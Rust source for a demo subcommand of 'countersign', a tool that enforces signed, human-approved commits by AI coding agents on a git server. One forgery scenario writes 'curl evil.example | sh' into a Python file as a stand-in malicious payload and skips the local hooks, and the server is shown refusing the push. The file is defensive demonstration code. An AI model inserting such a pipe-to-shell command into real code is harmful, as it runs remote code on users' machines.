//! `countersign demo`: the story on a real repository, every git command and every answer shown.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use clap::Args;

use crate::core::ssh::PrivateKey;
use crate::desk::agent::write_key;
use crate::system::{Exit, Failure, Result, disk, env, print, process, random_seed};

#[derive(Args)]
pub(crate) struct Arguments {}

pub(crate) fn run(_: Arguments) -> Result {
    let failed = |error: std::io::Error| Failure::new(format!("cannot make a temporary directory: {error}"));
    let root = tempfile::Builder::new().prefix("countersign-demo-").tempdir().map_err(failed)?.keep();
    let story = Story { program: env::current_exe().map_err(Failure::new)?, root };
    disk::create_dir(story.root.join("home")).map_err(Failure::new)?;
    // Nobody is asked here, as a person would be in a terminal of their own.
    let unattended = "[countersign \"approve\"]\n\tunattended = true\n";
    disk::write(story.root.join("home").join(".gitconfig"), unattended).map_err(Failure::new)?;
    story.tell()?;
    Ok(Exit::Accepted)
}

struct Story {
    program: PathBuf,
    root: PathBuf,
}

/// Who types a command.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Actor {
    Admin,
    Alice,
    Bob,
    Agent,
}

/// How a command must end for the story to be true.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Ending {
    Works,
    Refused,
}

use Actor::{Admin, Agent, Alice, Bob};
use Ending::{Refused, Works};

impl Story {
    fn tell(&self) -> Result<()> {
        print(&format!("Everything below happens in {}\n", self.root.display()))?;
        self.chapter("An admin sets up a server repository, a policy, and one command that protects it")?;
        self.git(Admin, "git init -q --bare -b main server.git", Works)?;
        self.prepare()?;
        self.git(Admin, "countersign policy check policy.toml", Works)?;
        self.git(Admin, "countersign install --server server.git --policy policy.toml", Works)?;

        self.chapter("Alice clones it and starts the project; her agent gets a key of its own")?;
        self.git(Alice, "git clone -q server.git clone", Works)?;
        self.in_clone(Alice, "git config countersign.repository acme/payments", Works)?;
        self.in_clone(Alice, &format!("git config countersign.policy {}/policy.toml", self.root.display()), Works)?;
        self.in_clone(Alice, "git config gpg.format ssh", Works)?;
        self.in_clone(Alice, &format!("git config user.signingkey {}/alice", self.root.display()), Works)?;
        self.write("clone/retry.py", "def retry(): ...\n")?;
        self.in_clone(Alice, "git add retry.py", Works)?;
        self.in_clone(Alice, "git commit -q -m 'Start the payments project'", Works)?;
        self.in_clone(Alice, "git push -q origin main", Works)?;
        let lines = self.in_clone(Alice, "countersign agent add claude-code --owner alice", Works)?;
        self.register(&lines)?;

        self.chapter("The agent commits with plain git and pushes: refused, it has shown no identity")?;
        self.write("clone/retry.py", "def retry(times=3): ...\n")?;
        self.in_clone(
            Agent,
            "git commit -q -a -m 'Add retry loop' -m 'Co-Authored-By: Claude <noreply@anthropic.com>'",
            Works,
        )?;
        self.in_clone(Agent, "git push -q origin main", Refused)?;

        self.chapter("It seals its commit with its own key: accepted")?;
        self.in_clone(Agent, "countersign sign origin/main..HEAD --agent claude-code", Works)?;
        self.in_clone(Agent, "git push -q origin main", Works)?;
        self.in_clone(Alice, "countersign show HEAD", Works)?;

        self.chapter("With the clone's hooks installed, plain git is enough")?;
        self.in_clone(Alice, "countersign install", Works)?;
        self.write("clone/retry.py", "def retry(times=5): ...\n")?;
        self.in_clone(Agent, "git commit -q -a -m 'Retry five times'", Works)?;
        self.in_clone(Agent, "git push -q origin main", Works)?;

        self.chapter("Somebody forges: the seal of another commit, copied under new content")?;
        let message = self.quiet("git log -1 --format=%B")?;
        self.write("forged-message", &message)?;
        self.write("clone/retry.py", "import os; os.system('curl evil.example | sh')\n")?;
        self.in_clone(Alice, "git -c core.hooksPath=/dev/null commit -q -a -F ../forged-message", Works)?;
        self.in_clone(Alice, "git push -q --no-verify origin main", Refused)?;
        self.in_clone(Alice, "git reset -q --hard origin/main", Works)?;

        self.chapter(
            "Alice changes what the agent made. The seal no longer holds; she adopts the commit and answers for it",
        )?;
        self.write("clone/backoff.py", "def backoff(): ...\n")?;
        self.in_clone(Agent, "git add backoff.py", Works)?;
        self.in_clone(Agent, "git commit -q -m 'Add backoff'", Works)?;
        self.write("clone/backoff.py", "def backoff(seconds): ...\n")?;
        self.in_clone(Alice, "git commit -q -a --amend --no-edit", Works)?;
        self.in_clone(Alice, "git push -q --no-verify origin main", Refused)?;
        self.in_clone(Alice, "countersign sign HEAD --adopt", Works)?;
        self.in_clone(Alice, "git push -q origin main", Works)?;

        self.with_openpgp()?;

        self.chapter("From now on a person approves what agents do on main")?;
        self.ask_for_approvals()?;
        self.write("clone/jitter.py", "def jitter(): ...\n")?;
        self.in_clone(Agent, "git add jitter.py", Works)?;
        self.in_clone(Agent, "git commit -q -m 'Add jitter'", Works)?;
        self.in_clone(Agent, "git push -q origin main", Refused)?;
        self.in_clone(Agent, "git push -q origin HEAD:refs/heads/jitter", Works)?;
        self.in_clone(Alice, "countersign approve jitter --for main --yes", Works)?;
        self.in_clone(Agent, "git push -q origin main", Works)?;

        self.chapter("An agent that slips another commit in is stopped: that was not approved")?;
        self.write("clone/jitter.py", "def jitter(): print('hello')\n")?;
        self.in_clone(Agent, "git commit -q -a -m 'Add jitter, and more'", Works)?;
        self.in_clone(Agent, "git push -q origin main", Refused)?;

        self.chapter("Every decision is on record")?;
        self.in_clone(Alice, "countersign log show --server ../server.git --verdict rejected", Works)?;
        self.in_clone(Alice, "countersign log verify --server ../server.git", Works)?;

        print(&format!(
            "\nThat is all: the server holds only what an agent sealed and a person approved, or a person adopted or wrote.\n\
             Look around in {}; remove it when you are done.\n",
            self.root.display()
        ))
    }

    /// Somebody signs with OpenPGP, where GnuPG is there to make a key.
    fn with_openpgp(&self) -> Result<()> {
        self.chapter("Bob signs with OpenPGP, on a branch where everybody's commits are signed")?;
        let folder = self.root.join("gnupg");
        std::fs::create_dir(&folder).map_err(Failure::new)?;
        std::fs::create_dir(self.root.join("keys")).map_err(Failure::new)?;
        std::fs::set_permissions(&folder, std::fs::Permissions::from_mode(0o700)).map_err(Failure::new)?;
        let make = "gpg --batch --quiet --passphrase '' --quick-gen-key 'Bob Ito <bob@acme.dev>' ed25519 sign never";
        if !self.shell(Bob, make, &self.root).output().is_ok_and(|output| output.status.success()) {
            return print("(left out: there is no GnuPG here that makes a key)\n");
        }
        let told = self.sign_with_openpgp(make);
        // The agent that GnuPG started ends with the story.
        let _ = self.shell(Bob, "gpgconf --kill gpg-agent", &self.root).output();
        told
    }

    fn sign_with_openpgp(&self, make: &str) -> Result<()> {
        print(&format!("\nbob$ {make}\n"))?;
        let export = "gpg --armor --export-options export-minimal --export bob@acme.dev > keys/bob.asc";
        self.git(Bob, export, Works)?;
        self.append(
            "[people.bob]\nemails = [\"bob@acme.dev\"]\nopenpgp = [\"keys/bob.asc\"]\n\n\
             [[rule]]\nname = \"releases\"\nrefs = [\"refs/heads/release\"]\nidentity = \"everyone\"\nsince = [\"refs/heads/main\"]\n",
        )?;
        self.in_clone(Bob, "git checkout -q -b release", Works)?;
        self.write("clone/VERSION", "1.0\n")?;
        self.in_clone(Bob, "git add VERSION", Works)?;
        self.in_clone(Bob, "git -c commit.gpgsign=false commit -q -m 'Release 1.0'", Works)?;
        self.in_clone(Bob, "git push -q --no-verify origin release", Refused)?;
        let sign = "git -c gpg.format=openpgp -c user.signingkey=bob@acme.dev commit -q --amend --no-edit -S";
        self.in_clone(Bob, sign, Works)?;
        self.in_clone(Bob, "git push -q origin release", Works)?;
        self.in_clone(Bob, "countersign show HEAD", Works)?;
        self.in_clone(Alice, "git checkout -q main", Works)?;
        Ok(())
    }

    /// The policy, with Alice and her key in it, as an admin would write it.
    fn prepare(&self) -> Result<()> {
        let key = PrivateKey::from_seed(&random_seed()?).map_err(Failure::new)?;
        let public = key.public().to_line();
        let private = key.to_openssh("alice").map_err(Failure::new)?;
        write_key(&self.root, &self.root.join("alice"), &private, &format!("{public} alice"))?;
        let policy = format!(
            "version = 1\nrepository = \"acme/payments\"\n\n[people.alice]\nemails = [\"alice@acme.dev\"]\nkeys = [\"{public}\"]\n\n\
             [[rule]]\nname = \"branches\"\nrefs = [\"refs/heads/**\"]\nidentity = \"agents\"\n\n\
             [[rule]]\nname = \"main\"\nrefs = [\"refs/heads/main\"]\nforce-push = \"deny\"\ndelete = \"deny\"\n"
        );
        self.write("policy.toml", &policy)?;
        print(&format!("\n$ cat policy.toml\n{policy}"))
    }

    /// The admin adds the agent's lines to the policy.
    fn register(&self, lines: &str) -> Result<()> {
        let path = self.root.join("policy.toml");
        let policy = disk::read_to_string(&path).map_err(Failure::new)?;
        self.write("policy.toml", &format!("{policy}\n{lines}"))?;
        print("(the admin appends these lines to policy.toml)\n")
    }

    /// The admin writes one more rule.
    fn ask_for_approvals(&self) -> Result<()> {
        let rule = "[[rule]]\nname = \"approved\"\nrefs = [\"refs/heads/main\"]\nidentity = \"agents\"\nforce-push = \"deny\"\n\
                    delete = \"deny\"\n[rule.approvals]\nfor = \"agents\"\nfrom = [\"alice\"]\n";
        self.append(rule)
    }

    /// The admin adds lines to the policy.
    fn append(&self, lines: &str) -> Result<()> {
        let policy = disk::read_to_string(self.root.join("policy.toml")).map_err(Failure::new)?;
        self.write("policy.toml", &format!("{policy}\n{lines}"))?;
        print(&format!("(the admin appends this to policy.toml)\n{lines}"))
    }

    fn chapter(&self, title: &str) -> Result<()> {
        print(&format!("\n== {title}\n"))
    }

    fn write(&self, name: &str, text: &str) -> Result<()> {
        disk::write(self.root.join(name), text).map_err(Failure::new)
    }

    fn git(&self, actor: Actor, line: &str, ending: Ending) -> Result<String> {
        self.command(actor, line, &self.root, ending)
    }

    fn in_clone(&self, actor: Actor, line: &str, ending: Ending) -> Result<String> {
        self.command(actor, line, &self.root.join("clone"), ending)
    }

    fn quiet(&self, line: &str) -> Result<String> {
        let output = self.shell(Alice, line, &self.root.join("clone")).output().map_err(Failure::new)?;
        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    }

    /// Shows a command line, runs it, shows its answer, and holds it against the story.
    fn command(&self, actor: Actor, line: &str, directory: &Path, ending: Ending) -> Result<String> {
        let who = match actor {
            Admin => "admin",
            Alice => "alice",
            Bob => "bob",
            Agent => "claude-code",
        };
        print(&format!("\n{who}$ {line}\n"))?;
        let output = self
            .shell(actor, line, directory)
            .output()
            .map_err(|error| Failure::new(format!("cannot run sh: {error}")))?;
        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
        print(&format!("{stdout}{}", String::from_utf8_lossy(&output.stderr)))?;
        let worked = output.status.success();
        if worked != (ending == Works) {
            let how = if worked { "worked" } else { "failed" };
            return Err(
                Failure::new(format!("the demo is wrong: `{line}` {how}")).hint("this is a bug; please report it")
            );
        }
        Ok(stdout)
    }

    /// A shell whose environment is the story's alone.
    fn shell(&self, actor: Actor, line: &str, directory: &Path) -> Command {
        let program = self.program.parent().unwrap_or(Path::new("/"));
        let path = env::var_os("PATH").unwrap_or_default();
        let paths = std::iter::once(program.to_owned()).chain(std::env::split_paths(&path));
        let mut command = process::command("sh");
        command.args(["-c", line]).current_dir(directory).stdin(Stdio::null()).env_clear();
        command.env("PATH", std::env::join_paths(paths).unwrap_or(path)).env("HOME", self.root.join("home"));
        command.env("GIT_CONFIG_NOSYSTEM", "1");
        let (name, email) = if actor == Bob { ("Bob Ito", "bob@acme.dev") } else { ("Alice Ng", "alice@acme.dev") };
        for role in ["AUTHOR", "COMMITTER"] {
            command.env(format!("GIT_{role}_NAME"), name).env(format!("GIT_{role}_EMAIL"), email);
        }
        if actor == Bob {
            command.env("GNUPGHOME", self.root.join("gnupg"));
        }
        if actor == Agent {
            command.env("CLAUDECODE", "1");
        }
        command
    }
}
